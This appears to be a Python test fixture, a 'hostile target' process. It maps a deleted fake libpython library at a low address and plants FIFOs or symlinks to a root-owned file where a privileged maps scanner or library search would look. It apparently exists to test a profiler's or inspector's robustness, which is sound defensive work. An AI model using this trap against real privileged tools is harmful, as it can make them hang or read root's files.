"""A hostile target (run it as an unprivileged user): maps a 4 KiB file named
libpython3.11.so.1.0 at a low address, so that every scan of its maps meets
it first, deletes it, and plants at "<name> (deleted)" (what maps now shows)
and at <name> (where a library search looks), and at libcuda.so.1 (a late
library searched ahead), a FIFO or a link to a file of root's.

usage: hostile_maps.py DIR fifo|link [LINK_TARGET]
Prints "ready" once planted, then idles until killed.
"""
import ctypes
import mmap
import os
import sys
import time

MAP_FIXED_NOREPLACE = 0x100000
ADDR = 0x200000  # below everything the loader and the kernel place


def plant(path, mode, target):
    if mode == "fifo":
        os.mkfifo(path)
    else:
        os.symlink(target, path)


def main():
    folder, mode = sys.argv[1], sys.argv[2]
    target = sys.argv[3] if len(sys.argv) > 3 else None
    name = os.path.join(folder, "libpython3.11.so.1.0")
    with open(name, "wb") as f:
        f.write(b"\0" * 4096)
    fd = os.open(name, os.O_RDONLY)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                          ctypes.c_int, ctypes.c_long]
    addr = libc.mmap(ADDR, 4096, mmap.PROT_READ | mmap.PROT_EXEC,
                     mmap.MAP_PRIVATE | MAP_FIXED_NOREPLACE, fd, 0)
    if addr != ADDR:
        sys.exit("mmap: " + os.strerror(ctypes.get_errno()))
    os.close(fd)
    os.unlink(name)
    for path in (name + " (deleted)", name, os.path.join(folder, "libcuda.so.1")):
        plant(path, mode, target)
    print("ready", flush=True)
    while True:
        time.sleep(0.05)


if __name__ == "__main__":
    main()
